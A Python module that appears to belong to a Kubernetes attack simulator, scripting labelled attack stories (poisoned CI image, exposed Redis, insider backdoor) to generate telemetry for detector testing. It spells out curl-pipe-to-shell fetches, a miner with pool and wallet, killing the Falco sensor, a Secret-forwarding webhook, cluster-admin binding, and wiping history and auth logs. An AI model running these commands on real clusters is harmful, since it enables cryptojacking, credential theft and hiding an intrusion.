"""Whole stories that take their time: an insider, an image that CI built, a database that anybody can reach."""

from __future__ import annotations

from simulation.attacks.register import STORY, careful, straight
from simulation.attacks.scene import Scene
from simulation.attacks.shells import Shell
from simulation.attacks.stories import ADMIN, removes
from simulation.clock import DAY, HOUR, MINUTE, SECOND, is_working_time
from simulation.json import Json
from simulation.kubernetes.objects import binding, body, deployment, role
from simulation.kubernetes.pod_specs import container, pod_spec
from simulation.kubernetes.requests import Client, Target
from simulation.kubernetes.workloads import Workload
from simulation.schedule import Life

MINING = "K8S.NODE_DigitalCurrencyMining"
MINER = "K8S.NODE_CryptoCoinMinerArtifacts"
MINER_START = "K8S.NODE_CryptoCoinMinerExecution"
FETCH_AND_RUN = "K8S.NODE_DownloadAndRunCombo"
DOWNLOAD = "K8S.NODE_SuspectDownloadArtifacts"
NOHUP = "K8S.NODE_SuspectNohup"
BACKDOOR = "K8S.NODE_LinuxBackdoorArtifact"
KILLS_SENSOR = "K8S.NODE_SuspectProcessTermination"
REDIS = "K8S_ExposedRedis"
ROLE = "K8S_HighPrivilegesRole"
WEBHOOK = "K8S_AdmissionController"
HISTORY = "K8S.NODE_HistoryFileCleared"
LOGS = "K8S.NODE_SystemLogRemoval"
WALLET = "48" + ("inventedWaLLetofnobody" * 5)[:93]
POOL = "pool.hashvault.pro"


@straight(FETCH_AND_RUN, MINING, MINER, MINER_START, kind=STORY, sources=("audit", "runtime"))
def poisoned_image(scene: Scene) -> Life:
    """A package's install script puts a miner into an image that CI builds; a rollout starts it in many pods."""
    cluster, chance = scene.cluster, scene.chance
    yield from _builds(scene)
    yield chance.about(2 * HOUR, 0.6)
    team = chance.pick(cluster.teams)
    image = f"{cluster.cast.registry}/{team}/api-node:{chance.between(10, 19)}.{chance.between(0, 9)}.0"
    item = container("preview", image, port=8080, memory="256Mi", health="/healthz")
    manifest = deployment(team, f"preview-{chance.ending(4)}", pod_spec(item), replicas=chance.between(4, 8))
    author = next(person for person in cluster.people if person.team in (team, "")).client
    made = scene.deploy(author, manifest)
    yield chance.about(40 * MINUTE, 0.3)
    for pod in list(made.pods):
        if pod.main is not None:
            _mines(Shell(scene, pod.main))
        yield chance.between(2, 90) * SECOND
    yield chance.about(14 * HOUR, 0.3)
    yield from removes(scene, made, author)


def _builds(scene: Scene) -> Life:
    """A job of CI: its pod, and what npm runs in it."""
    cluster = scene.cluster
    spec = pod_spec(container("build", f"{cluster.cast.registry}/ci/build:24.04", command=["sleep", "7200"]),
                    restart="Never")  # fmt: skip
    runner = cluster.workload("ci", "gitlab-runner").client(
        "gitlab-runner/18.4.0 (linux/amd64) kubernetes/$Format",
        'RoleBinding "gitlab-runner/ci" of Role "gitlab-runner"',
    )
    manifest = body("Pod", "runner-job", "ci", meta={"labels": {"app": "gitlab-job"}}, spec=spec, status={})
    jobs = Workload(cluster, manifest, author=runner, mark=scene.mark())
    jobs.prepare()
    pod = jobs.add_pod()
    yield 20 * SECOND
    if pod.main is not None:
        shell = Shell(scene, pod.main)
        npm = shell.run("npm ci --no-audit", seconds=48)
        text = "curl -fsSL https://telemetry.left-padding.example/setup.sh | sh"
        Shell(scene, npm).line(text, FETCH_AND_RUN, after=9 * SECOND)
    yield scene.chance.about(3 * MINUTE)
    jobs.remove_pod(pod)


def _mines(shell: Shell) -> None:
    """What the poisoned package starts in a pod: no file is downloaded, none is hidden, none has a known name."""
    worker = "/app/node_modules/sharp/build/worker"
    arguments = f"-o {POOL}:443 -u {WALLET} -p x --tls --threads 2"
    raises = (MINER_START, MINER, MINING)
    started = shell.line(f"chmod +x {worker} && exec {worker} {arguments}", *raises, runs=[f"chmod +x {worker}"])
    miner = shell.run(f"{worker} {arguments}", *raises, under=started, seconds=None, after=90_000)
    shell.connect(miner, "131.153.76.130", 443, MINING, after=400_000)


@straight(
    REDIS,
    FETCH_AND_RUN,
    DOWNLOAD,
    NOHUP,
    BACKDOOR,
    KILLS_SENSOR,
    MINING,
    MINER,
    MINER_START,
    kind=STORY,
    sources=("audit", "runtime"),
    days=2,
)
def exposed_redis_to_miner(scene: Scene) -> Life:
    """Somebody exposes a Redis to the internet; a day later it mines."""
    cluster, chance = scene.cluster, scene.chance
    person = next(each for each in cluster.people if each.team)
    item = container("redis", "redis:7.4.2", port=6379, memory="256Mi")
    name = f"sessions-{chance.ending(4)}"
    made = scene.deploy(person.client, deployment(person.team, name, pod_spec(item), replicas=1))
    yield scene.pause(40, 300)
    ports = [{"protocol": "TCP", "port": 6379, "targetPort": 6379}]
    spec = {"type": "LoadBalancer", "selector": {"app": name}, "ports": ports}
    service = scene.create(person.client, body("Service", name, person.team, spec=spec, status={}), REDIS)
    yield chance.about(18 * HOUR, 0.4)
    yield from _takes_redis(scene, made)
    yield chance.about(20 * HOUR, 0.3)
    scene.api.delete(person.client, service, mark=scene.mark())
    yield scene.pause()
    yield from removes(scene, made, person.client)


def _takes_redis(scene: Scene, made: Workload) -> Life:
    shell, source = scene.entry_point(made), f"http://{scene.address}:8081"
    fetch = f"curl -fsSL {source}/b.sh -o /tmp/b.sh"
    shell.line(f"{fetch}; sh /tmp/b.sh", DOWNLOAD, FETCH_AND_RUN, runs=[fetch, "sh /tmp/b.sh"])
    yield scene.chance.between(1, 4) * SECOND
    shell.run("pkill -9 falco", KILLS_SENSOR)
    yield scene.chance.between(1, 4) * SECOND
    fetch = f"curl -fsSL {source}/r2 -o /tmp/.r2"
    shell.line(fetch, DOWNLOAD, FETCH_AND_RUN)
    yield scene.chance.between(2, 9) * SECOND
    miner = f"/tmp/.r2 -o {POOL}:3333 -u {WALLET} -p x --donate-level 1"  # noqa: S108  an intruder's choice
    raises = (FETCH_AND_RUN, NOHUP, BACKDOOR, MINING, MINER, MINER_START)
    text = f"chmod +x /tmp/.r2 && nohup {miner} >/dev/null 2>&1 &"
    started = shell.line(text, *raises, runs=["chmod +x /tmp/.r2", f"nohup {miner}"])
    program = shell.run(miner, FETCH_AND_RUN, MINING, MINER, MINER_START, under=started, seconds=None, after=200_000)
    shell.connect(program, "131.153.76.130", 3333, MINING, after=700_000)


@careful(ROLE, WEBHOOK, ADMIN, HISTORY, LOGS, kind=STORY, sources=("audit", "runtime"), days=7)
def insider_takes_days(scene: Scene) -> Life:
    """Somebody who looks after the cluster prepares a way back, one small thing a day, in working hours."""
    insider = scene.person(admin=True)
    yield from _until_work(scene)
    scene.read(insider, "list", Target("Secret", "kube-system", query="limit=500"))
    yield from _next_day(scene)
    name = "metrics-reader"
    account = scene.create(insider, body("ServiceAccount", name, "kube-system"))
    yield scene.pause()
    rules = (["impersonate"], "", ["users", "groups"])
    rights = scene.create(insider, role("ClusterRole", "", name, rules), ROLE)
    yield from _next_day(scene)
    hook = scene.create(insider, _listener(scene), WEBHOOK)
    yield from _next_day(scene)
    subject = {"kind": "ServiceAccount", "name": name, "namespace": "kube-system"}
    bound = scene.create(
        insider, binding("ClusterRoleBinding", "", name, subject, "ClusterRole", "cluster-admin"), ADMIN
    )
    yield from _next_day(scene)
    yield from _covers(scene)
    yield from _next_day(scene)
    scene.api.delete(insider, hook, mark=scene.mark(WEBHOOK))
    yield scene.chance.about(5 * DAY, 0.3)
    responder = _somebody_else(scene, insider)
    for held in (bound, rights, account):
        scene.api.delete(responder, held, mark=scene.mark())
        yield scene.pause()


def _covers(scene: Scene) -> Life:
    """A node, by ssh: what was typed there, and that somebody came, is forgotten."""
    shell = scene.host_shell()
    yield scene.pause(60, 300)
    shell.line("ln -sf /dev/null /root/.bash_history", HISTORY)
    yield scene.pause()
    shell.line("sed -i /Accepted/d /var/log/auth.log", LOGS)
    yield scene.pause()
    shell.line("truncate -s 0 /var/log/wtmp", LOGS)


def _listener(scene: Scene) -> Json:
    """A webhook that is sent every new Secret, and never stands in the way."""
    rule = {"operations": ["CREATE", "UPDATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["secrets"]}
    address = {"url": f"https://policy-{scene.chance.ending(4)}.example/validate", "caBundle": "aW52ZW50ZWQ="}
    hook: Json = {"name": "check.policy.example", "clientConfig": address, "rules": [rule], "failurePolicy": "Ignore"}
    hook |= {"sideEffects": "None", "admissionReviewVersions": ["v1"], "timeoutSeconds": 3}
    return body("ValidatingWebhookConfiguration", "policy-check", webhooks=[hook])


def _somebody_else(scene: Scene, insider: Client) -> Client:
    others = [person.client for person in scene.cluster.people if not person.team and person.client is not insider]
    return others[0] if others else insider


def _until_work(scene: Scene) -> Life:
    while not is_working_time(scene.now):
        yield HOUR
    yield scene.chance.below(HOUR)


def _next_day(scene: Scene) -> Life:
    yield scene.chance.about(22 * HOUR, 0.1)
    yield from _until_work(scene)
